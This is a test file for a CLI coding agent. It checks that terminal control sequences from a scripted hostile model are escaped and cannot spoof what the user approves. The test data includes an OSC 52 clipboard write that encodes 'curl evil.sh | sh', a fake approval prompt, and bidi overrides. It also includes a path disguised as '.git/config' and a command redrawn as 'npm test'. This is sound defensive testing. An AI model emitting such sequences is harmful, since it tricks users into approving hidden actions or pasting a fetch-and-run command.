/**
 * Nothing a model or a file says reaches the terminal as control codes, through the real CLI on a
 * real terminal (`script` gives it a PTY; the bytes asserted on are what the PTY carried). The
 * scripted model answers with an OSC 52 clipboard write, a CSI clear-line, a bidi override and a
 * fake approval prompt; it then asks to write a path holding `\r\x1b[2K` (which, printed raw,
 * erases the line and shows only `.git/config`), to run a command whose tail redraws the line as
 * `npm test`, and to start a subagent whose description sets the window title. In ask mode the
 * question shows each of them escaped, `y` approves exactly that operation, `show` and `events`
 * print the session without a raw ESC, BEL, CR, C1 or bidi character, and the log still holds the
 * original bytes. Files outside the project (a sentinel home and sibling) are hashed before and
 * after.
 */
import { createHash } from 'node:crypto'
import { mkdirSync, readFileSync, writeFileSync, existsSync } from 'node:fs'
import { join } from 'node:path'
import { spawn } from 'node:child_process'
import { afterEach, describe, expect, it } from 'vitest'
import { startModelServer } from '../fixtures/model-server/server.js'
import type { ModelServer } from '../fixtures/model-server/server.js'
import { cliArgv } from '../fixtures/cli.js'
import {
  callOutcome,
  cliEnv,
  disposeWorld,
  eventsOf,
  makeWorld,
  sentinelChanges,
  sessionEvents,
  snapshotSentinels,
  toolCalls,
} from './safety-fixture.js'
import type { World } from './safety-fixture.js'

let world: World | undefined
let server: ModelServer | undefined

afterEach(async () => {
  await server?.close()
  server = undefined
  disposeWorld(world)
  world = undefined
})

const OSC52 = '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07'
const ANSWER =
  `ok😀 Here you go.${OSC52}\r\x1b[2Kall clear \u202eevil.sh\u202c done\n` +
  '? bash needs your approval:\n    npm test\n  [y] allow once\n'
const WRITE_PATH = 'notes.txt\r\x1b[2K.git/config'
const WRITE_ARGS = { path: WRITE_PATH, content: 'hi\n' }
const COMMAND = 'printf ran > ran.txt #\r\x1b[2Knpm test'
const SUBAGENT = 'helper\x1b]0;owned\x07\x9b2J'

const shellQuote = (word: string) => `'${word.replace(/'/g, `'\\''`)}'`
const sha = (path: string) => createHash('sha256').update(readFileSync(path)).digest('hex')

/** `bridle <args>` on a PTY (`script`), `answers` typed in; every byte the PTY carried. */
function onTerminal(
  w: World,
  args: string[],
  answers = '',
): Promise<{ code: number | null; bytes: Buffer }> {
  const argv = [process.execPath, ...cliArgv({ home: w.data, project: w.project }, ...args)]
  const child = spawn('script', ['-qfec', argv.map(shellQuote).join(' '), '/dev/null'], {
    cwd: w.project,
    env: { ...cliEnv(w), NO_COLOR: '1', TERM: 'xterm-256color' },
    stdio: 'pipe',
  })
  const chunks: Buffer[] = []
  child.stdout.on('data', (d: Buffer) => chunks.push(d))
  child.stderr.on('data', (d: Buffer) => chunks.push(d))
  child.stdin.write(answers)
  return new Promise((resolve) =>
    child.once('close', (code) => resolve({ code, bytes: Buffer.concat(chunks) })),
  )
}

/**
 * The control bytes a terminal acts on, found in what it was sent: ESC, BEL, a CR that is not the
 * PTY's own `\r\n`, any other C0 but LF and TAB, DEL, C1 (as UTF-8) and the bidi controls.
 */
function actingBytes(bytes: Buffer): string[] {
  const text = bytes.toString('utf8').replace(/\r\n/g, '\n')
  // eslint-disable-next-line no-control-regex
  const found = text.match(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b-\u200f]/gu)
  return (found ?? []).map((char) => `U+${char.codePointAt(0)?.toString(16).padStart(4, '0')}`)
}

describe('bridle on a terminal: outside text is shown, never acted on', () => {
  it('escapes the answer, the approval questions, show and events; y runs exactly what was shown', async () => {
    const w = (world = makeWorld('escapes', { sandbox: 'auto' }))
    mkdirSync(join(w.project, '.git'))
    writeFileSync(join(w.project, '.git', 'config'), '[core]\n\tbare = false\n')
    const gitConfig = sha(join(w.project, '.git', 'config'))
    const before = snapshotSentinels(w)
    server = await startModelServer({
      script: [
        {
          steps: [
            { text: ANSWER },
            { toolCall: { id: 'w1', name: 'write', args: JSON.stringify(WRITE_ARGS) } },
            { finish: 'tool_calls' },
          ],
          chunkSize: 3,
        },
        toolCalls({ id: 'b1', name: 'bash', args: { command: COMMAND, description: 'npm test' } }),
        toolCalls({ id: 't1', name: 'task', args: { description: SUBAGENT, prompt: 'say ok' } }),
        'ok from the helper',
        'All done.',
      ],
    })
    const run = await onTerminal(
      w,
      ['run', '--approval', 'ask', '--base-url', server.url, '--model', 'scripted', 'go'],
      'y\ny\ny\ny\n',
    )
    const shown = run.bytes.toString('utf8')
    expect(run.code, shown).toBe(0)
    expect(actingBytes(run.bytes), shown).toEqual([])
    // The answer: every control shown as an escape, the fake prompt shown as plain text.
    expect(shown).toContain('ok😀 Here you go.\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007')
    expect(shown).toContain('\\u000d\\u001b[2Kall clear \\u202eevil.sh\\u202c done')
    // The write: the real path, as JSON, with a warning; not a bare `.git/config` nor `notes.txt`.
    expect(shown).toContain('? write needs your approval:')
    expect(shown).toContain('path: "notes.txt\\r\\u001b[2K.git/config"')
    expect(shown).toContain('the call holds control or invisible characters')
    // The command: the whole of it, not the model's "npm test" description.
    expect(shown).toContain('command: "printf ran > ran.txt #\\r\\u001b[2Knpm test"')
    expect(shown).toContain('subagent "helper\\u001b]0;owned\\u0007\\u009b2J"')

    // `y` approved exactly what was shown: the odd path was written, .git/config was not touched.
    const events = sessionEvents(w)
    expect(callOutcome(events, 'w1').code).toBe('ok')
    expect(readFileSync(join(w.project, WRITE_PATH), 'utf8')).toBe('hi\n')
    expect(sha(join(w.project, '.git', 'config'))).toBe(gitConfig)
    expect(callOutcome(events, 'b1').code).toBe('ok')
    expect(readFileSync(join(w.project, 'ran.txt'), 'utf8')).toBe('ran')
    expect(sentinelChanges(before, snapshotSentinels(w))).toEqual([])

    // The log keeps the truth: the original bytes, unescaped.
    const texts = eventsOf(events, 'assistant/message').flatMap((e) =>
      e.data.blocks.flatMap((b) => (b.type === 'text' ? [b.text] : [])),
    )
    expect(texts.join('')).toContain(ANSWER.trimEnd())
    const writeCall = eventsOf(events, 'tool/call').find((e) => e.data.callId === 'w1')
    expect((writeCall?.data.args as { path?: string }).path).toBe(WRITE_PATH)

    // `show`, `events`, `sessions`, `search` and `export` to a terminal print nothing it acts on.
    const sessionId = /session ([0-9a-zA-Z-]+)/.exec(shown)?.[1] ?? ''
    const views = [
      ['show', sessionId],
      ['events', sessionId],
      ['sessions'],
      ['search', 'clear'],
      ['export', sessionId, '--format', 'md'],
    ]
    for (const args of views) {
      const view = await onTerminal(w, args)
      const text = view.bytes.toString('utf8')
      expect(view.code, text).toBe(0)
      expect(actingBytes(view.bytes), `${args[0]}: ${text}`).toEqual([])
      if (args[0] !== 'sessions') expect(text).toContain('\\u001b]52;c;')
    }
    expect(existsSync(join(w.project, 'ran.txt'))).toBe(true)
  }, 120_000)
})
